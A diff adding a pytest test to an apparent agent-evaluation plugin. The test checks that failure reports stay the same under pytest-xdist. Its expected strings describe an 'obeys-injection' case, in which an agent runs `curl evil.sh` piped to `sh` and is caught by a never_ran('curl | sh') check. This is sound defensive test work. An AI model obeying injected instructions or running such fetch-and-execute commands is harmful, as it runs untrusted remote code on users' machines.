@@ -656,3 +656,36 @@ def test_xdist_runs_and_saves_one_report_with_every_case(agent_module: pytest.Py
         "more 0", "more 1", "more 2", "more 3"]
     assert (report.passed_case_count, report.failed_case_count, report.skipped_case_count) == (7, 2, 1)
     assert all(len(c.trials) == 2 for c in report.graded_cases)
+
+
+@pytest.mark.skipif(importlib.util.find_spec("xdist") is None, reason="pytest-xdist is not installed")
+def test_xdist_keeps_the_one_line_failure_message_in_junit_and_the_short_summary(agent_module: pytest.Pytester) -> None:
+    """A worker's report reaches the controller whole: JUnit's failure message and `-ra` are the item's one line,
+    the failure body is trialrun's report, exactly as without xdist."""
+    lines = {
+        "obeys-injection": "0/1 trials passed; never_ran('curl | sh'): runs `curl evil.sh` feeding `sh` via run_command",
+        "crashes": "0/1 trials passed; invoke: RuntimeError: the agent crashed on 'input.txt'",
+    }
+    failures: dict[str, dict[str, tuple[str, str]]] = {}
+    for label, args in (("plain", ()), ("xdist", ("-p", "xdist", "-n", "2"))):
+        result = agent_module.runpytest_subprocess(*args, "-ra", "--junitxml=pytest.xml", "-k", "obeys or crashes")
+        result.assert_outcomes(failed=2)
+        result.stdout.fnmatch_lines_random([
+            "FAILED test_agent.py::obeys-injection - 0/1 trials passed; never_ran('curl | sh'): *",
+            f"FAILED test_agent.py::crashes - {lines['crashes']}",
+        ])
+        failures[label] = {}
+        for testcase in ET.parse(agent_module.path / "pytest.xml").getroot().iter("testcase"):
+            failure = testcase.find("failure")
+            assert failure is not None
+            body = re.sub(r"\b\d+\.\d\ds(?=[;)])", "<duration>", failure.text or "")  # durations differ from run to run
+            failures[label][testcase.get("name", "")] = (failure.get("message", ""), body)
+    xdist = failures["xdist"]
+    assert set(xdist) == set(lines)
+    for name, expected in lines.items():
+        message, body = xdist[name]
+        assert "\n" not in message and message.startswith(expected), message
+        assert body.startswith(f"case {name!r} failed: 0 of 1 trial passed"), body
+    assert "      x never_ran('curl | sh') [trajectory]: " in xdist["obeys-injection"][1]
+    assert "    error (invoke): RuntimeError: the agent crashed on 'input.txt'" in xdist["crashes"][1]
+    assert failures["xdist"] == failures["plain"]
